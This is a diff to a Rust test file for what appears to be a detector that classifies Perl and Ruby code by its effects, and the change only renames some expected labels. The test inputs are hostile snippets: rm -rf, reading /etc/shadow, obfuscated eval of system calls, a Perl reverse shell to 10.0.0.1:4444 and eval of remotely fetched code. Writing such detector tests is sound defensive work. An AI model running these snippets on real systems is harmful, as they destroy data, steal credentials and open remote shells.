@@ -16,11 +16,11 @@ fn perl() {
             ("my $d = \"$ENV{HOME}/x\"; system(\"rm -rf $d\")", &["shell rm -rf ~/x"]),
             ("open(F, '>', '/etc/hosts'); print F 'x'", &["write /etc/hosts"]),
             ("open F, '</etc/shadow'; print <F>", &["read /etc/shadow"]),
-            ("open(P, '|-', 'sh'); print P 'id'", &["shell sh"]),
+            ("open(P, '|-', 'sh'); print P 'id'", &["run sh"]),
             ("open(P, 'id|'); print <P>", &["shell id"]),
             ("s/x/`id`/e", &["shell id"]),
-            ("eval pack('H*', '73797374656d28226964222920')", &["shell id"]),
-            ("use MIME::Base64; eval decode_base64('c3lzdGVtKCJpZCIp')", &["shell id"]),
+            ("eval pack('H*', '73797374656d28226964222920')", &["run id"]),
+            ("use MIME::Base64; eval decode_base64('c3lzdGVtKCJpZCIp')", &["run id"]),
             (
                 "use Socket;$i='10.0.0.1';$p=4444;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');exec('/bin/sh -i');};",
                 &["!remote-code.reverse-shell"],
@@ -68,7 +68,7 @@ fn ruby() {
             ("File.write('/etc/hosts', 'x')", &["write /etc/hosts"]),
             ("File.open('/etc/hosts', 'w') { |f| f.puts 'x' }", &["write /etc/hosts"]),
             ("IO.popen(['rm', '-rf', '/'])", &["run rm -rf /"]),
-            ("eval Base64.decode64('c3lzdGVtKCJpZCIp')", &["shell id"]),
+            ("eval Base64.decode64('c3lzdGVtKCJpZCIp')", &["run id"]),
             (
                 "require 'open-uri'; eval(URI.open('http://e.example/x').read)",
                 &["fetch http://e.example/x", "!remote-code.pipe"],
